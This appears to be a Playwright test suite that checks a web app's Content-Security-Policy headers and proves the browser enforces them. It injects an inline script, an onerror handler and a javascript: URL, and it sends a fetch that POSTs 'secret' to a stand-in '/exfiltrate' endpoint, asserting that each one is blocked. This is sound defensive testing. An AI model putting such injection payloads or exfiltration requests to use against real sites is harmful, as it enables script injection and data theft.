import { expect, test, type Page } from '@playwright/test';

/**
 * The Content-Security-Policy `vite preview` sends (the same set as deploy/security-headers.json),
 * read from the response headers, then proven in the browser: injected inline code does not run,
 * fetches to origins the runtime config does not name are refused, and the app itself runs under
 * the policy without a single violation.
 */

interface Violation {
  directive: string;
  blockedURI: string;
}

/**
 * The few browser globals the page callbacks use: the e2e project compiles without the DOM lib
 * (it would clash with Node's fetch types), so they are declared here, as in auth.spec.ts.
 */
interface PageElement {
  textContent: string | null;
  src: string;
  href: string;
  setAttribute(name: string, value: string): void;
  click(): void;
}
interface PageGlobals {
  document: {
    body: { append(node: PageElement): void };
    documentElement: object;
    createElement(tag: string): PageElement;
    querySelectorAll(selector: string): { length: number };
    addEventListener(
      type: 'securitypolicyviolation',
      listener: (event: { effectiveDirective: string; blockedURI: string }) => void,
      options?: { once: boolean },
    ): void;
  };
  getComputedStyle(element: object): { getPropertyValue(name: string): string };
}

/** A CSP header as directive → sources. */
function parsePolicy(header: string | undefined): Map<string, string[]> {
  expect(header, 'the response carries a Content-Security-Policy').toBeDefined();
  const directives = new Map<string, string[]>();
  for (const part of (header ?? '').split(';')) {
    const [name, ...sources] = part.trim().split(/\s+/);
    if (name) directives.set(name, sources);
  }
  return directives;
}

function requiredEnv(name: string): string {
  const value = process.env[name];
  if (!value) throw new Error(`${name} is not set: run the specs through playwright.config.ts`);
  return value;
}

/** Records every securitypolicyviolation from the first script on, before the app's own code. */
async function recordViolations(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const { document } = globalThis as unknown as PageGlobals;
    const seen: { directive: string; blockedURI: string }[] = [];
    Object.assign(globalThis, { __cspViolations: seen });
    document.addEventListener('securitypolicyviolation', (event) => {
      seen.push({ directive: event.effectiveDirective, blockedURI: event.blockedURI });
    });
  });
}

/** Every violation recorded so far; a page of ours causes none. */
async function violations(page: Page): Promise<Violation[]> {
  return page.evaluate(
    () => (globalThis as unknown as { __cspViolations: Violation[] }).__cspViolations,
  );
}

async function openList(page: Page): Promise<void> {
  await page.goto('/');
  await expect(
    page.getByRole('link', { name: 'industrial-gateway-custom', exact: true }),
  ).toBeVisible();
}

test('the app page carries the CSP and security headers, connect-src limited to the configured endpoint', async ({
  page,
}) => {
  const response = await page.goto('/');
  const headers = response?.headers() ?? {};
  const policy = parsePolicy(headers['content-security-policy']);
  const endpoint = new URL(requiredEnv('E2E_IOT_ENDPOINT')).origin;

  expect(Object.fromEntries(policy)).toEqual({
    'default-src': ["'self'"],
    'script-src': ["'self'"],
    'style-src': ["'self'", "'unsafe-inline'"],
    'img-src': ["'self'", 'data:'],
    // This run's config names one endpoint and no sign-in: nothing else may be reached.
    'connect-src': ["'self'", endpoint],
    'frame-ancestors': ["'none'"],
    'base-uri': ["'self'"],
    'form-action': ["'self'"],
    'object-src': ["'none'"],
  });
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['referrer-policy']).toBe('no-referrer');
  expect(headers['x-frame-options']).toBe('DENY');

  // Static assets carry the same policy (a script or stylesheet opened directly is still covered).
  const config = await page.request.get('/config.json');
  expect(config.headers()['content-security-policy']).toBe(headers['content-security-policy']);
  expect(config.headers()['x-content-type-options']).toBe('nosniff');
});

test('with sign-in configured, connect-src and form-action add the Cognito endpoints of that config', async ({
  request,
}) => {
  const response = await request.get(requiredEnv('E2E_AUTH_APP_URL'));
  const policy = parsePolicy(response.headers()['content-security-policy']);
  const cognito = new URL(requiredEnv('E2E_COGNITO_URL')).origin;
  const endpoint = new URL(requiredEnv('E2E_IOT_ENDPOINT')).origin;
  expect(policy.get('connect-src')).toEqual(["'self'", endpoint, cognito]);
  expect(policy.get('form-action')).toEqual(["'self'", cognito]);
  expect(policy.get('script-src')).toEqual(["'self'"]);
});

test('an inline script injected into the page is blocked and does not run', async ({ page }) => {
  await recordViolations(page);
  await openList(page);

  const outcome = await page.evaluate(
    () =>
      new Promise<{ violation: Violation; ran: boolean }>((resolve) => {
        const { document } = globalThis as unknown as PageGlobals;
        document.addEventListener(
          'securitypolicyviolation',
          (event) => {
            resolve({
              violation: { directive: event.effectiveDirective, blockedURI: event.blockedURI },
              ran: (globalThis as { __inlineScriptRan?: boolean }).__inlineScriptRan === true,
            });
          },
          { once: true },
        );
        const script = document.createElement('script');
        script.textContent = 'window.__inlineScriptRan = true;';
        document.body.append(script);
      }),
  );
  expect(outcome.violation).toEqual({ directive: 'script-src-elem', blockedURI: 'inline' });
  expect(outcome.ran).toBe(false);
  // Checked again after the event loop has moved on: the code never ran late either.
  await page.waitForTimeout(100);
  expect(await page.evaluate(() => '__inlineScriptRan' in globalThis)).toBe(false);
});

test('inline event handlers and javascript: URLs are blocked', async ({ page }) => {
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await recordViolations(page);
  await openList(page);

  await page.evaluate(() => {
    const { document } = globalThis as unknown as PageGlobals;
    const image = document.createElement('img');
    image.setAttribute('onerror', 'window.__handlerRan = true; alert("handler")');
    image.src = 'x-no-such-image';
    document.body.append(image);
    const link = document.createElement('a');
    link.href = 'javascript:window.__linkRan = true; alert("link")';
    link.textContent = 'hostile link';
    document.body.append(link);
    link.click();
  });
  await expect
    .poll(async () => (await violations(page)).map((violation) => violation.directive).sort())
    .toEqual(['script-src-attr', 'script-src-elem']);
  const ran = await page.evaluate(() => ({
    handler: '__handlerRan' in globalThis,
    link: '__linkRan' in globalThis,
  }));
  expect(ran).toEqual({ handler: false, link: false });
  expect(dialogs).toEqual([]);
});

test('a fetch to an origin the config does not name is refused by connect-src', async ({
  page,
}) => {
  await recordViolations(page);
  await openList(page);
  const result = await page.evaluate(async () => {
    try {
      await fetch('http://127.0.0.1:9/exfiltrate', { method: 'POST', body: 'secret' });
      return 'sent';
    } catch (error) {
      return error instanceof TypeError ? 'refused' : String(error);
    }
  });
  expect(result).toBe('refused');
  expect(await violations(page)).toContainEqual({
    directive: 'connect-src',
    blockedURI: 'http://127.0.0.1:9/exfiltrate',
  });
});

test('the app works under the policy: list, details and editor load with no violation and Mantine styles applied', async ({
  page,
}) => {
  await recordViolations(page);
  await openList(page);
  await page.getByRole('link', { name: 'industrial-gateway-custom', exact: true }).click();
  await expect(
    page.getByRole('heading', { level: 1, name: 'industrial-gateway-custom' }),
  ).toBeVisible();
  await expect(page.getByLabel('Description')).not.toHaveValue('');
  await page
    .getByRole('radiogroup', { name: 'View' })
    .getByText('Details', { exact: true })
    .click();
  await expect(page.getByRole('region', { name: 'Overview' })).toBeVisible();

  // Mantine's injected <style> elements (theme variables) were applied: style-src allows them.
  const styling = await page.evaluate(() => {
    const { document, getComputedStyle } = globalThis as unknown as PageGlobals;
    return {
      styleTags: document.querySelectorAll('style[data-mantine-styles]').length,
      scale: getComputedStyle(document.documentElement).getPropertyValue('--mantine-scale').trim(),
    };
  });
  expect(styling.styleTags).toBeGreaterThan(0);
  expect(styling.scale).toBe('1');
  expect(await violations(page)).toEqual([]);
});
